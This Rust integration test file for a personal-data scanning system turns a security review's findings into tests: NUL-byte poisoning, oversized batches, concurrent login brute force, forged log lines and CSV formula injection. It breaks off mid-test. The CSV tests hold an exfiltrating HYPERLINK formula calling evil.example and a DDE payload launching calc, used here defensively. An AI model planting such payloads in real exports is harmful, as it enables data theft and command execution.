//! Security hardening (issue #16), as specifications over real processes: a real collector
//! (SQLite or PostgreSQL), real agents, gRPC over loopback with real certificates, the console
//! over HTTP. Each test is one finding of the attack review and fails on the code before the
//! fix.

use custos_proto::v1 as pb;
use custos_proto::v1::enrollment_client::EnrollmentClient;
use custos_proto::v1::ingest_client::IngestClient;
use custos_tests::*;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use tonic::transport::{Certificate, Channel, ClientTlsConfig, Identity};

const IBAN: &str = "FR76 3000 6000 0112 3456 7890 189";

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap()
}

/// A gRPC channel to the deployment's collector, as agent `agent_id` (a certificate of the
/// deployment's CA), or anonymous.
async fn channel(d: &Deployment, agent_id: Option<&str>) -> Channel {
    let mut tls = ClientTlsConfig::new().ca_certificate(Certificate::from_pem(&d.ca.pem)).domain_name("localhost");
    if let Some(id) = agent_id {
        let (cert, key) = d.ca.agent(&d.root().join("pki"), &format!("raw-{id}"), id);
        tls = tls.identity(Identity::from_pem(std::fs::read(cert).unwrap(), std::fs::read(key).unwrap()));
    }
    Channel::from_shared(format!("https://127.0.0.1:{}", d.port)).unwrap().tls_config(tls).unwrap().connect().await.unwrap()
}

/// Sends `batches` on one stream, one at a time, and returns what the collector answered to
/// each (an error ends the stream).
async fn send(d: &Deployment, agent_id: &str, batches: Vec<pb::FindingBatch>) -> Vec<Result<pb::BatchAck, tonic::Status>> {
    let mut client = IngestClient::new(channel(d, Some(agent_id)).await).max_encoding_message_size(64 << 20);
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut acks = client.stream_findings(tokio_stream::wrappers::ReceiverStream::new(rx)).await.unwrap().into_inner();
    let mut out = Vec::new();
    for b in batches {
        tx.send(b).await.unwrap();
        let answer = tokio::time::timeout(Duration::from_secs(20), acks.message()).await.expect("an answer within 20 s");
        match answer {
            Ok(Some(ack)) => out.push(Ok(ack)),
            Ok(None) => panic!("the collector closed the stream without answering"),
            Err(status) => {
                out.push(Err(status));
                break;
            }
        }
    }
    out
}

fn finding(agent: &str, id: &str) -> pb::Finding {
    pb::Finding {
        id: id.into(),
        agent_id: agent.into(),
        host: "web-01".into(),
        source: Some(pb::Source { kind: pb::SourceKind::LogFile as i32, locator: "/srv/logs/app.log".into(), identity: "1:2".into() }),
        position: Some(pb::Position { at: Some(pb::position::At::Text(pb::TextPosition { line: 1, start: 0, end: 5, line_offset: 0 })) }),
        detector: "email".into(),
        category: pb::Category::Contact as i32,
        confidence: 0.9,
        preview: "j***@e***.fr".into(),
        fingerprint: vec![7; 32],
        observed_at_ms: custos_proto::time::now_ms(),
        kind: pb::FindingKind::PersonalData as i32,
        ..Default::default()
    }
}

fn batch(agent: &str, seq: u64, findings: Vec<pb::Finding>) -> pb::FindingBatch {
    pb::FindingBatch { seq, agent_id: agent.into(), findings, agent_version: "test".into(), host: "web-01".into(), spool_depth: 0 }
}

/// A fresh PostgreSQL schema for one test, dropped with it. The collector creates its tables
/// there (the test does not migrate it first: it is the collector's own migration that runs).
struct PgSchema {
    admin: String,
    name: String,
}

impl Drop for PgSchema {
    fn drop(&mut self) {
        if let Ok(mut c) = postgres::Client::connect(&self.admin, postgres::NoTls) {
            let _ = c.batch_execute(&format!("DROP SCHEMA IF EXISTS {} CASCADE", self.name));
        }
    }
}

/// Makes the deployment's collector keep its store in a fresh PostgreSQL schema; `None` when
/// PostgreSQL is not configured (then the test has said SKIPPED).
fn on_postgres(d: &Deployment) -> Option<PgSchema> {
    let admin = test_postgres_url()?;
    let name = format!("t_{:016x}", random_u64());
    postgres::Client::connect(&admin, postgres::NoTls).unwrap().batch_execute(&format!("CREATE SCHEMA {name}")).unwrap();
    let url = format!("{admin}{}options=-c%20search_path%3D{name}", if admin.contains('?') { "&" } else { "?" });
    let data = d.root().join("collector-data");
    std::fs::create_dir_all(&data).unwrap();
    // Where the command line (`user add --data-dir`) finds the store before the collector ran.
    custos_collector::data_dir::remember_store(&data, &custos_collector::store::StoreLocation::Postgres(url.clone())).unwrap();
    d.use_store(&url);
    Some(PgSchema { admin, name })
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap_or_else(|e| panic!("{}: {e}", p.display())).permissions().mode() & 0o777
}

// ------------------------------------------------------------------------------ 1. poison finding

#[test]
fn a_finding_postgresql_cannot_store_is_refused_alone_and_the_batch_is_kept() {
    let d = Deployment::new(&web_register());
    let Some(_pg) = on_postgres(&d) else { return };
    let web = d.enable_web();
    d.add_user("sec", "security");
    let collector = d.start_collector();
    // A hostile or broken agent: one finding holds a NUL character (PostgreSQL cannot store
    // it), the other is sound. On the old code the whole batch failed and was resent forever.
    let mut poison = finding("web-01-agent", "poison-1");
    poison.source.as_mut().unwrap().locator = "/srv/logs/a\u{0}b.log".into();
    let sound = finding("web-01-agent", "sound-1");
    let acks = runtime().block_on(send(&d, "web-01-agent", vec![batch("web-01-agent", 1, vec![poison, sound])]));
    let ack = acks[0].as_ref().unwrap_or_else(|e| panic!("{e}; collector log:\n{}", collector.stderr()));
    assert_eq!((ack.stored, ack.rejected), (1, 1), "{ack:?}");
    assert_eq!(ack.refused[0].id, "poison-1");
    assert!(ack.refused[0].reason.contains("NUL"), "{ack:?}");
    let console = Console::login(web, "sec");
    let agents = console.get("/api/v1/agents").json();
    assert_eq!(agents["items"][0]["refused_findings"], 1, "the console shows the refused count: {agents}");
}

#[test]
fn the_agent_neutralises_a_nul_in_a_json_key_so_its_finding_is_stored_on_postgresql() {
    let d = Deployment::new(&web_register());
    let Some(_pg) = on_postgres(&d) else { return };
    let web = d.enable_web();
    d.add_user("sec", "security");
    let collector = d.start_collector();
    // A JSON export whose field name holds a NUL character: its column reaches the finding.
    let exports = d.root().join("exports");
    std::fs::create_dir_all(&exports).unwrap();
    let lines: String = (0..30).map(|i| format!("{{\"e\\u0000mail\": \"client{i}@example.fr\"}}\n")).collect();
    std::fs::write(exports.join("customers.ndjson"), lines).unwrap();
    let cfg = d.agent_config("agent", "web-01-agent", &d.ca, "web-01-agent", "beginning");
    let metrics = free_port();
    append(&cfg, &format!("\n[metrics]\nlisten = \"127.0.0.1:{metrics}\"\n\n[[scan]]\nlocation = \"{}\"\ninterval_s = 86400\n", exports.display()));
    let agent = d.start_agent(&cfg, "agent");
    let console = Console::login(web, "sec");
    let stored = wait_for(Duration::from_secs(30), || {
        let page = console.get("/api/v1/findings?detector=email").json();
        (page["total"].as_u64() >= Some(1)).then_some(page)
    });
    let page = stored.unwrap_or_else(|| panic!("not stored; agent log:\n{}\ncollector log:\n{}", agent.stderr(), collector.stderr()));
    assert!(page.to_string().contains("e\u{fffd}mail"), "the NUL is shown as U+FFFD: {page}");
    let body = http_get(metrics, "/metrics");
    assert!(body.contains("custos_agent_findings_refused_total 0"), "{body}");
    assert!(!d.root().join("agent-data/dead-letter.jsonl").exists());
}

// ---------------------------------------------------------------------------- 2. bounded ingest

#[test]
fn a_batch_over_the_finding_cap_is_refused_before_decoding_with_one_log_line_and_an_error_status() {
    let d = Deployment::new(&web_register());
    let collector = d.start_collector();
    let rt = runtime();
    // 20,000 empty findings: 40 kB on the wire, about 7 MB once decoded.
    let empty = vec![pb::Finding::default(); 2 * custos_proto::codec::MAX_FINDINGS_PER_BATCH];
    let answers = rt.block_on(send(&d, "web-01-agent", vec![batch("web-01-agent", 1, empty)]));
    let status = answers[0].as_ref().expect_err("an error status, not an ack nor a clean close");
    assert_eq!(status.code(), tonic::Code::ResourceExhausted, "{status:?}");
    assert!(status.message().contains("at most 5000 findings"), "{status:?}");
    std::thread::sleep(Duration::from_millis(300));
    let log = collector.stderr();
    assert_eq!(log.matches("batch refused before decoding").count(), 1, "{log}");
    assert!(log.lines().count() < 50, "one summary line, not one per finding:\n{}", &log[..log.len().min(4000)]);
    // A batch within the cap whose findings are all malformed: acknowledged, one line.
    let bad: Vec<pb::Finding> = (0..1000).map(|i| pb::Finding { id: format!("bad id {i}"), ..finding("web-01-agent", "x") }).collect();
    let answers = rt.block_on(send(&d, "web-01-agent", vec![batch("web-01-agent", 2, bad)]));
    let ack = answers[0].as_ref().unwrap();
    assert_eq!((ack.stored, ack.rejected, ack.refused.len()), (0, 1000, 1000));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(collector.stderr().matches("findings refused").count(), 1, "{}", collector.stderr());
}

#[test]
fn an_agent_over_its_rate_has_its_acknowledgements_delayed_not_its_findings_refused() {
    let d = Deployment::new(&web_register());
    let cfg = d.root().join("collector.toml");
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(&cfg, format!("ingest_rate_per_agent = 200\n{text}")).unwrap();
    let _collector = d.start_collector();
    let rt = runtime();
    let batches: Vec<pb::FindingBatch> =
        (0..4u64).map(|b| batch("web-01-agent", b + 1, (0..200).map(|i| finding("web-01-agent", &format!("rate-{b}-{i}"))).collect())).collect();
    let started = std::time::Instant::now();
    let answers = rt.block_on(send(&d, "web-01-agent", batches));
    let took = started.elapsed();
    assert!(answers.iter().all(|a| a.as_ref().is_ok_and(|ack| ack.stored == 200)), "{answers:?}");
    // 800 findings at 200/s with a burst of 200: at least three seconds of waiting, enforced by
    // the collector (a lower bound: a slow machine only makes it longer).
    assert!(took >= Duration::from_millis(2_900), "{took:?}");
    assert_eq!(count(&d.db(), "SELECT COUNT(*) FROM findings"), 800);
}

// ---------------------------------------------------------------------------------- 3. logins

/// POSTs a login from source address `from` (any 127.0.0.0/8 address) and returns the status.
/// The request is sent but for its last byte, then the task waits at `start` with the others:
/// all the logins reach the collector at once.
async fn login_from(from: std::net::IpAddr, port: u16, name: String, password: &'static str, start: std::sync::Arc<tokio::sync::Barrier>) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(std::net::SocketAddr::new(from, 0)).unwrap();
    let mut s = socket.connect(([127, 0, 0, 1], port).into()).await.unwrap();
    let body = serde_json::json!({ "name": name, "password": password }).to_string();
    let req = format!(
        "POST /api/v1/session HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let (head, last) = req.as_bytes().split_at(req.len() - 1);
    s.write_all(head).await.unwrap();
    start.wait().await;
    s.write_all(last).await.unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).await.unwrap();
    out.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0)
}

/// Logins sent together: (source address, user name, password) each; their statuses in order.
fn logins_at_once(rt: &tokio::runtime::Runtime, port: u16, tries: Vec<(std::net::IpAddr, String, &'static str)>) -> Vec<u16> {
    rt.block_on(async {
        let start = std::sync::Arc::new(tokio::sync::Barrier::new(tries.len()));
        let tasks: Vec<_> = tries.into_iter().map(|(from, name, pw)| tokio::spawn(login_from(from, port, name, pw, start.clone()))).collect();
        let mut out = Vec::new();
        for t in tasks {
            out.push(t.await.unwrap());
        }
        out
    })
}

#[test]
fn concurrent_wrong_logins_cannot_race_past_the_limit_nor_lock_the_user_out_from_elsewhere() {
    let d = Deployment::new(&web_register());
    let web = d.enable_web();
    d.add_user("alice", "dpo");
    let _collector = d.start_collector();
    assert!(wait_listening(web, Duration::from_secs(10)));
    let rt = runtime();
    let attacker: std::net::IpAddr = "127.0.0.1".parse().unwrap();
    // 100 wrong passwords and the right one last, all at once from one address.
    let tries = (0..101).map(|i| (attacker, "alice".to_string(), if i == 100 { TEST_PASSWORD } else { "wrong password!" })).collect();
    let statuses = logins_at_once(&rt, web, tries);
    let checked = statuses.iter().filter(|s| **s == 401 || **s == 200).count();
    assert!(checked <= 5, "at most five passwords checked from one address, not {checked}: {statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 101 - checked, "{statuses:?}");
    // The real user, from their own address, is not locked out by the attacker's failures.
    let own = logins_at_once(&rt, web, vec![("127.0.0.2".parse().unwrap(), "alice".to_string(), TEST_PASSWORD)]);
    assert_eq!(own, [200]);
}

#[test]
fn password_checks_arriving_together_stay_within_the_argon2_memory_budget() {
    let d = Deployment::new(&web_register());
    let web = d.enable_web();
    d.add_user("alice", "dpo");
    let collector = d.start_collector();
    assert!(wait_listening(web, Duration::from_secs(10)));
    let rt = runtime();
    // 48 addresses and 48 names, one wrong password each, all at once: every one is checked
    // (an unknown name against a decoy hash, so that it takes as long).
    let tries = (1..=48u8).map(|i| (std::net::IpAddr::from([127, 0, 1, i]), format!("user{i}"), "wrong password!")).collect();
    let statuses = logins_at_once(&rt, web, tries);
    assert!(statuses.iter().all(|s| *s == 401), "{statuses:?}");
    // Each Argon2id check takes 19 MiB: 48 at once would be about 900 MiB.
    let status = std::fs::read_to_string(format!("/proc/{}/status", collector.pid())).unwrap();
    let peak_kib: u64 = status.lines().find_map(|l| l.strip_prefix("VmHWM:")).and_then(|v| v.split_whitespace().next()?.parse().ok()).unwrap();
    assert!(peak_kib < 400 * 1024, "peak RSS {peak_kib} KiB");
}

// ------------------------------------------------------------------------ 5. CSV, 6. API errors

#[test]
fn exported_csv_cells_never_start_a_formula() {
    let d = Deployment::new(&web_register());
    let web = d.enable_web();
    d.add_user("dpo", "dpo");
    let collector = d.start_collector();
    let out = Command::new(bin("e2e-collector"))
        .args(["revoke", "web-09", "--reason", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "--data-dir"])
        .arg(d.root().join("collector-data"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = Console::login(web, "dpo").get("/api/v1/audit.csv").body;
    let cells: Vec<String> =
        csv::ReaderBuilder::new().from_reader(csv.as_bytes()).records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK")), "{csv}");
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{csv}");
    drop(collector);
}

#[test]
fn a_triage_note_cannot_start_a_formula_in_the_breach_register_csv() {
    let d = Deployment::new(&web_register());
    let (_collector, _agent) = d.run_until_incident();
    // Changes are attributed to console users only.
    d.add_user("soc", "security");
    let data = d.root().join("collector-data");
    let data = data.to_str().unwrap();
    // The breach register lists breaches: the DPO deems this register gap one.
    d.add_user("dpo", "dpo");
    let out = run("e2e-collector", &["incident", "1", "--promote", "--by", "dpo", "--note", "exposed", "--data-dir", data]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = run("e2e-collector", &["incident", "1", "--set-status", "triaged", "--by", "soc", "--note", "@SUM(1+1)*cmd|' /C calc'!A0", "--data-dir", data]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = run("e2e-collector", &["breach-register", "--format", "csv", "--data-dir", data]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8(out.stdout).unwrap();
    let cells: Vec<String> =
        csv::ReaderBuilder::new().from_reader(csv.as_bytes()).records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c.starts_with("'@SUM(1+1)")), "{csv}");
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{csv}");
}

#[test]
fn api_errors_are_json_and_a_nul_in_a_filter_is_a_400_on_postgresql() {
    let d = Deployment::new(&web_register());
    let Some(_pg) = on_postgres(&d) else { return };
    let web = d.enable_web();
    d.add_user("sec", "security");
    let _collector = d.start_collector();
    let c = Console::login(web, "sec");
    for path in ["/api/v1/findings?detector=%00", "/api/v1/findings/counts?host=a%00b", "/api/v1/incidents?system=%00"] {
        let r = c.get(path);
        assert_eq!(r.status, 400, "{path}: {}", r.body);
        assert!(r.json()["error"].as_str().unwrap().contains("NUL"), "{path}: {}", r.body);
    }
    let r = c.get("/api/v1/findings/counts?system=web-01");
    assert_eq!(r.status, 200, "{}", r.body);
    let r = c.get("/api/v1/findings?limit=many");
    assert_eq!(r.status, 400);
    assert!(r.json()["error"].is_string(), "{}", r.body);
    let r = c.call("POST", "/api/v1/mutes", None);
    assert!(r.status == 415 || r.status == 400, "{}", r.status);
    assert!(r.json()["error"].is_string(), "{}", r.body);
    let r = c.post("/api/v1/mutes", serde_json::json!({ "unexpected": 1 }));
    assert_eq!(r.status, 422);
    assert!(r.json()["error"].is_string(), "{}", r.body);
}

// ------------------------------------------------------------------------------- 7. file modes

#[test]
fn data_directories_are_0700_and_their_files_0600() {
    let d = Deployment::new(&logs_register());
    let collector = d.start_collector();
    let cfg = d.agent_config("agent", "web-01-agent", &d.ca, "web-01-agent", "beginning");
    append(&d.root().join("logs/app.log"), &format!("iban={IBAN}\n"));
    let agent = d.start_agent(&cfg, "agent");
    let stored = wait_for(Duration::from_secs(30), || (count(&d.db(), "SELECT COUNT(*) FROM findings") > 0).then_some(()));
    assert!(stored.is_some(), "{}", agent.stderr());
    let data = d.root().join("collector-data");
    assert_eq!(mode(&data), 0o700);
    for f in ["custos.db", "custos.db-wal", "custos.db-shm"] {
        assert_eq!(mode(&data.join(f)), 0o600, "{f}");
    }
    let agent_data = d.root().join("agent-data");
    assert_eq!(mode(&agent_data), 0o700);
    assert_eq!(mode(&agent_data.join("spool")), 0o700);
    for entry in std::fs::read_dir(agent_data.join("spool")).unwrap().chain(std::fs::read_dir(&agent_data).unwrap()) {
        let p = entry.unwrap().path();
        if p.is_file() {
            assert_eq!(mode(&p), 0o600, "{}", p.display());
        }
    }
    drop((agent, collector));
}

// ---------------------------------------------------------------------------------- 8. logs

#[test]
fn an_id_holding_a_newline_cannot_forge_a_collector_log_line() {
    let d = Deployment::new(&web_register());
    let collector = d.start_collector();
    let forged = "web-01-agent\n2026-01-01T00:00:00.000000Z  INFO custos_collector::ingest: FORGED agent connected agent=admin";
    let rt = runtime();
    let answers = rt.block_on(send(&d, "web-01-agent", vec![batch(forged, 1, vec![finding(forged, "f-1")])]));
    assert_eq!(answers[0].as_ref().unwrap_err().code(), tonic::Code::PermissionDenied);
    std::thread::sleep(Duration::from_millis(300));
    let log = collector.stderr();
    assert!(log.contains("FORGED"), "the claimed id is logged: {log}");
    assert!(!log.lines().any(|l| l.starts_with("2026-01-01") || l.contains("FORGED") && !l.contains("claimed")), "{log}");
}

// ------------------------------------------------------------------------------- 9. metrics

fn http_get(port: u16, path: &str) -> String {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.write_all(format!("GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n").as_bytes()).unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out
}

#[test]
fn agent_metrics_pass_promtool_check_metrics() {
    let Ok(promtool) = which("promtool") else {
        skip_or_fail("promtool", "scripts/test.sh installs Debian's prometheus package");
        return;
    };
    let d = Deployment::new(&logs_register());
    let _collector = d.start_collector();
    let cfg = d.agent_config("agent", "web-01-agent", &d.ca, "web-01-agent", "beginning");
    let port = free_port();
    append(&cfg, &format!("\n[metrics]\nlisten = \"127.0.0.1:{port}\"\n"));
    append(&d.root().join("logs/app.log"), &format!("iban={IBAN}\n"));
    let agent = d.start_agent(&cfg, "agent");
    let acked = wait_for(Duration::from_secs(30), || {
        let r = std::panic::catch_unwind(|| http_get(port, "/metrics")).ok()?;
        r.contains("custos_agent_batches_acked_total 1").then_some(r)
    });
    let response = acked.unwrap_or_else(|| panic!("no acknowledged batch: {}", agent.stderr()));
    let (head, body) = response.split_once("\r\n\r\n").unwrap();
    assert!(head.to_ascii_lowercase().contains("content-type: text/plain; version=0.0.4"), "{head}");
    let mut check = Command::new(promtool)
        .args(["check", "metrics"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut check.stdin.take().unwrap(), body.as_bytes()).unwrap();
    let out = check.wait_with_output().unwrap();
    assert!(out.status.success(), "promtool: {}{}\n{body}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
}

fn which(name: &str) -> Result<std::path::PathBuf, ()> {
    std::env::var_os("PATH").and_then(|p| std::env::split_paths(&p).map(|d| d.join(name)).find(|p| p.is_file())).ok_or(())
}

// --------------------------------------------------------------- 10. HTTPS, certificates, stores

#[test]
fn the_https_console_sends_hsts() {
    let d = Deployment::new(&web_register());
    let port = free_port();
    append(&d.root().join("collector.toml"), &format!("\n[web]\nlisten = \"0.0.0.0:{port}\"\n"));
    let _collector = d.start_collector();
    assert!(wait_listening(port, Duration::from_secs(10)));
    let ca = ureq::tls::Certificate::from_pem(d.ca.pem.as_bytes()).unwrap().to_owned();
    let tls = ureq::tls::TlsConfig::builder().root_certs(ureq::tls::RootCerts::Specific(std::sync::Arc::new(vec![ca]))).build();
    let https = ureq::Agent::config_builder().tls_config(tls).http_status_as_error(false).build().new_agent();
    let r = https.get(&format!("https://localhost:{port}/api/v1/openapi.json")).call().unwrap();
    assert_eq!(r.headers().get("strict-transport-security").and_then(|v| v.to_str().ok()), Some("max-age=31536000"));
}

/// Expiry (s since the epoch) and Common Name of a PEM certificate file.
fn certificate(path: &Path) -> (i64, String) {
    let pem = std::fs::read(path).unwrap();
    let (_, der) = x509_parser::pem::parse_x509_pem(&pem).unwrap();
    let cert = der.parse_x509().unwrap();
    (cert.validity().not_after.timestamp(), cert.subject().iter_common_name().next().unwrap().as_str().unwrap().to_string())
}

fn run(bin_name: &str, args: &[&str]) -> std::process::Output {
    Command::new(bin(bin_name)).args(args).output().unwrap()
}

#[test]
fn certificates_are_valid_one_year_renewed_over_mtls_and_a_malformed_csr_keeps_the_token() {
    let d = Deployment::new(&logs_register());
    let _collector = d.start_collector();
    let root = d.root();
    let data = root.join("collector-data");
    let out = run("e2e-collector", &["enroll", "--agent-id", "web-07", "--data-dir", data.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let token = String::from_utf8(out.stdout).unwrap().trim().to_string();
    // A malformed CSR is refused without using the token up.
    let rt = runtime();
    let refused = rt.block_on(async {
        EnrollmentClient::new(channel(&d, None).await).enroll(pb::EnrollRequest { token: token.clone(), csr_pem: "not a CSR".into() }).await.unwrap_err()
    });
    assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");
    let certs = root.join("web07-certs");
    let url = format!("https://127.0.0.1:{}", d.port);
    let ca = root.join("pki/ca.pem");
    let out = run(
        "e2e-agent",
        &["enroll", "--collector", &url, "--token", &token, "--ca", ca.to_str().unwrap(), "--server-name", "localhost", "--out", certs.to_str().unwrap()],
    );
    assert!(out.status.success(), "the token still works: {}", String::from_utf8_lossy(&out.stderr));
    let now = custos_proto::time::now_ms() / 1000;
    let (not_after, cn) = certificate(&certs.join("agent.pem"));
    assert_eq!(cn, "web-07");
    assert!(not_after <= now + 366 * 86_400, "valid one year, not until 4096: {not_after}");
    // Renewal over the channel the current certificate opens: a new key, the same agent id.
    let cfg = d.agent_config("web07", "web-07", &d.ca, "placeholder", "beginning");
    std::fs::copy(certs.join("agent.pem"), root.join("pki/web07.pem")).unwrap();
    std::fs::copy(certs.join("agent.key"), root.join("pki/web07.key")).unwrap();
    let old_key = std::fs::read(root.join("pki/web07.key")).unwrap();
    let out = run("e2e-agent", &["renew", "--config", cfg.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_ne!(std::fs::read(root.join("pki/web07.key")).unwrap(), old_key);
    assert_eq!(mode(&root.join("pki/web07.key")), 0o600);
    assert_eq!(certificate(&root.join("pki/web07.pem")).1, "web-07");
    // The renewed pair works.
    append(&root.join("logs/app.log"), &format!("iban={IBAN}\n"));
    let agent = d.start_agent(&cfg, "web07");
    let stored = wait_for(Duration::from_secs(30), || (count(&d.db(), "SELECT COUNT(*) FROM findings") > 0).then_some(()));
    assert!(stored.is_some(), "{}", agent.stderr());
    // A revoked agent cannot renew.
    let out = run("e2e-collector", &["revoke", "web-07", "--reason", "lost", "--data-dir", data.to_str().unwrap()]);
    assert!(out.status.success());
    let out = run("e2e-agent", &["renew", "--config", cfg.to_str().unwrap()]);
    assert!(!out.status.success() && String::from_utf8_lossy(&out.stderr).contains("revoked"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_zero_byte_database_file_is_refused_not_taken_for_a_new_store() {
    let d = Deployment::new(&web_register());
    std::fs::create_dir_all(d.root().join("collector-data")).unwrap();
    std::fs::write(d.db(), b"").unwrap();
    let cfg = d.root().join("collector.toml");
    let mut p = Proc::start("e2e-collector", &["run", "--config", cfg.to_str().unwrap()], &d.root().join("collector.stderr"));
    let exited = wait_for(Duration::from_secs(20), || p.try_wait());
    assert!(exited.is_some_and(|s| !s.success()), "the collector must not start on an empty database: {}", p.stderr());
    assert!(p.stderr().contains("empty file"), "{}", p.stderr());
    assert_eq!(std::fs::metadata(d.db()).unwrap().len(), 0, "left as it was");
}

// ------------------------------------------------------------------ 12. PostgreSQL over TLS

/// A private PostgreSQL server for one test, accepting TLS connections only (`hostssl` in
/// pg_hba.conf, `hostnossl … reject`) on 127.0.0.1 and 127.0.0.2, with a certificate for
/// `localhost` and 127.0.0.1 signed by `ca`.
struct TlsPostgres {
    _dir: tempfile::TempDir,
    server: Proc,
    port: u16,
}

impl TlsPostgres {
    fn start(ca: &TestCa) -> Option<TlsPostgres> {
        let bin =
            std::fs::read_dir("/usr/lib/postgresql").ok()?.filter_map(|e| e.ok()).map(|e| e.path().join("bin")).filter(|b| b.join("initdb").is_file()).max()?;
        let dir = tempfile::tempdir().unwrap();
        let (data, certs) = (dir.path().join("data"), dir.path().join("certs"));
        std::fs::create_dir_all(&certs).unwrap();
        ca.server(&certs);
        let as_postgres = |program: &Path, args: &[&str]| {
            let mut c = Command::new("runuser");
            c.args(["-u", "postgres", "--"]).arg(program).args(args);
            c
        };
        let chown = Command::new("chown").args(["-R", "postgres:postgres"]).arg(dir.path()).status().ok()?;
        if !chown.success() {
            return None;
        }
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(certs.join("server.key"), std::fs::Permissions::from_mode(0o600)).unwrap();
        let init = as_postgres(&bin.join("initdb"), &["-D", data.to_str().unwrap(), "-A", "trust", "-U", "postgres"]).output().ok()?;
        assert!(init.status.success(), "initdb: {}", String::from_utf8_lossy(&init.stderr));
        std::fs::write(data.join("pg_hba.conf"), "local all all trust\nhostssl all all 127.0.0.0/8 trust\nhostnossl all all 127.0.0.0/8 reject\n").unwrap();
        let port = free_port();
        let log = dir.path().join("postgres.log");
        let child = as_postgres(
            &bin.join("postgres"),
            &[
                "-D",
                data.to_str().unwrap(),
                "-p",
                &port.to_string(),
                "-k",
                dir.path().to_str().unwrap(),
                "-c",
                "listen_addresses=127.0.0.1,127.0.0.2",
                "-c",
                "ssl=on",
                "-c",
                &format!("ssl_cert_file={}", certs.join("server.pem").display()),
                "-c",
                &format!("ssl_key_file={}", certs.join("server.key").display()),
            ],
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
        let server = Proc::from_child(child, &log);
        assert!(wait_listening(port, Duration::from_secs(30)), "postgres did not start: {}", server.stderr());
        Some(TlsPostgres { _dir: dir, server, port })
    }

    fn url(&self, host: &str, query: &str) -> String {
        format!("postgres://postgres@{host}:{}/postgres{query}", self.port)
    }
}

#[test]
fn the_store_and_the_agents_database_scans_use_tls_when_the_url_asks_for_it() {
    if std::env::var_os("CUSTOS_TEST_POSTGRES").is_none() {
        skip_or_fail("PostgreSQL", "the TLS test starts its own server from the installed PostgreSQL");
        return;
    }
    let ca = TestCa::new("Database CA");
    let Some(pg) = TlsPostgres::start(&ca) else {
        skip_or_fail("PostgreSQL server binaries and runuser", "to start a private server with ssl=on");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let ca_file = ca.write(dir.path(), "db-ca.pem");
    let other_ca = TestCa::new("Somebody else").write(dir.path(), "other-ca.pem");
    use custos_collector::store::Store;
    let open = |url: String| Store::open_postgres(&url).map(|_| ()).map_err(|e| e.to_string());
    // Plain connections are refused by this server: the store must ask for TLS.
    assert!(open(pg.url("127.0.0.1", "")).is_err());
    open(pg.url("localhost", &format!("?sslmode=verify-full&sslrootcert={}", ca_file.display()))).unwrap();
    // The certificate names localhost and 127.0.0.1, not 127.0.0.2: enough for verify-ca only.
    open(pg.url("127.0.0.2", &format!("?sslmode=verify-ca&sslrootcert={}", ca_file.display()))).unwrap();
    open(pg.url("127.0.0.1", "?sslmode=require")).unwrap();
    let wrong_ca = open(pg.url("localhost", &format!("?sslmode=verify-full&sslrootcert={}", other_ca.display()))).unwrap_err();
    assert!(wrong_ca.to_lowercase().contains("certificate"), "{wrong_ca}");
    let wrong_host = open(pg.url("127.0.0.2", &format!("?sslmode=verify-full&sslrootcert={}", ca_file.display()))).unwrap_err();
    assert!(wrong_host.to_lowercase().contains("certificate"), "{wrong_host}");
    // The agent's scan of a table, over TLS.
    let mut admin =
        postgres::Client::connect(&format!("host={} port={} user=postgres dbname=postgres", pg._dir.path().display(), pg.port), postgres::NoTls).unwrap();
    admin.batch_execute("CREATE TABLE customers (id INT PRIMARY KEY, email TEXT); INSERT INTO customers SELECT i, 'client' || i || '@example.fr' FROM generate_series(1, 50) i").unwrap();
    let url = pg.url("localhost", &format!("?sslmode=verify-full&sslrootcert={}", ca_file.display()));
    let out = run("e2e-agent", &["scan", &url, "--json"]);
